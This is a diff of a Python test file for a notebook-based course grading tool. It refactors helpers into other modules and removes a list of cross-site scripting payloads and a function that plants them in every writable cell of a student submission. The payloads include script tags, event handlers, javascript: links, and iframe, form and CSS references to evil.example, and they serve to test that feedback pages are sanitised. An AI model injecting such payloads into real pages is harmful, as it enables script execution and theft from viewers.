@@ -9,18 +9,18 @@ import shutil
 import subprocess
 import sys
 import time
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 
 import nbformat
 import pytest
 from conftest import ROOT
+from markup import hostile
 from nbformat.v4 import new_code_cell, new_notebook
 from nbgrader import preprocessors as nbg
 from nbgrader import utils
 from nbgrader.api import Gradebook
 from PIL import Image
-from submissions import UNIT, grade_cells, part_of, release, sources
-from submissions import graded as by_hand_graded
+from submissions import DUE, UNIT, enter, grade_cells, graded, part_of, release, sources, with_text
 
 from course.errors import CourseError
 from course.grading import analysis, demo, exchange, feedback, gradebook, shards
@@ -31,20 +31,7 @@ from course.plots import grading
 from course.publish import build
 from course.units import parts
 
-DUE = datetime(2026, 3, 1, 12, tzinfo=UTC)
 ODD = 'Zoë O\'Neil; "x" <b>{0} & ¥100%'
-
-
-def graded(learner="ann", share=lambda number: 1, text=None, received=DUE, **fields):
-    return by_hand_graded(learner, share, text, received=received, **fields)
-
-
-def enter(course, *them):
-    folder = course / "shards"
-    folder.mkdir(exist_ok=True)
-    for one in them:
-        shards.save(folder, one)
-    return gradebook.merge(folder.iterdir(), course)
 
 
 def book(course):
@@ -82,11 +69,6 @@ def test_marks_become_grades_and_the_autograded_notebook_says_the_same(course):
     kept = gradebook.records(course)
     assert [one.learner for one in kept] == [ODD, "ann"]
     assert kept[1].marks == given[0].marks and kept[1].received == DUE and kept[1].parts[0].notebook is None
-
-
-def with_text():
-    """The name of the part that asks a text, which a teacher grades by hand."""
-    return next(p for p, nb in sources().items() if any(c.cell_type == "markdown" for c in grade_cells(nb)))
 
 
 def by_hand(course):
@@ -211,42 +193,6 @@ def test_a_unit_that_is_not_in_the_gradebook_is_one_sentence(prepared, tmp_path)
 # What a page may show
 
 
-ATTACKS = [
-    "<script>steal()</script>",
-    "<img src=x onerror=steal()>",
-    "[click](javascript:steal()) <javascript:steal()> [x]: <JaVaScRiPt:steal()>",
-    "<a href='&#106;avascript:steal()'>x</a> [d](data:text/html;base64,PHNjcmlwdD4=)",
-    "<iframe src='//evil.example'></iframe> <meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import url(//evil.example/x.css)</style> <b style='background:url(//evil.example)'>x</b>",
-    "<svg onload=steal()><script>steal()</script></svg>",
-    "![a](//evil.example/x.png) ![attached](attachment:x.png)",
-    "```mermaid\n<img src=x onerror=steal()>\n```",
-    "<math><mtext></table><mglyph><style><img src=x onerror=steal()>",
-    "</div></div></div></body><form action='//evil.example'><input name=x>",
-    "$\\href{javascript:steal()}{x}$ $$\\require{//evil.example/x}$$",
-    "half a pair \ud800 and \x1b]0;title\x07 \x00",
-]
-JS, SVG = "application/javascript", "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>"
-OUTPUTS = [
-    {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>steal()</script>\x1b]8;;//evil.example\x07"},
-    {"output_type": "error", "ename": "<script>", "evalue": "<b>", "traceback": ["<script>steal()</script>", 3]},
-    {
-        "output_type": "display_data",
-        "data": {"text/html": ATTACKS[0], "image/svg+xml": SVG, JS: "steal()"},
-        "metadata": {},
-    },
-    {"output_type": "display_data", "data": {"image/png": '"><script>steal()</script>'}, "metadata": {}},
-    {
-        "output_type": "execute_result",
-        "data": {"text/latex": "$x$", "text/plain": ["<script>", "steal()"]},
-        "metadata": {},
-    },
-    {"output_type": "display_data", "data": [], "metadata": 1},
-    {"output_type": "update_display_data"},
-    {},
-]
-
-
 class Page(html.parser.HTMLParser):
     """The tags of a page with their attributes."""
 
@@ -260,19 +206,6 @@ class Page(html.parser.HTMLParser):
 
     def count(self, *names):
         return sum(tag in names for tag, _ in self.tags)
-
-
-def hostile(learner):
-    """A submission that attacks whoever looks at it, in every cell it can write to."""
-    one = graded(learner, text="\n\n".join(ATTACKS), note=ATTACKS[1])
-    for cell in (cell for result in one.parts for cell in result.notebook.cells if cell.metadata.get("nbgrader")):
-        if cell.cell_type == "code" and cell.metadata.nbgrader.solution:
-            cell.source, cell.outputs = ATTACKS[0], [nbformat.from_dict(output) for output in OUTPUTS]
-        elif cell.cell_type == "markdown":
-            cell.attachments = {"x.png": {"text/html": "PHNjcmlwdD4="}}
-    for mark in one.marks:
-        mark.report = ATTACKS[0] + "\x1b[2J"
-    return one
 
 
 def test_feedback_holds_nothing_that_runs_and_nothing_that_is_secret(course):
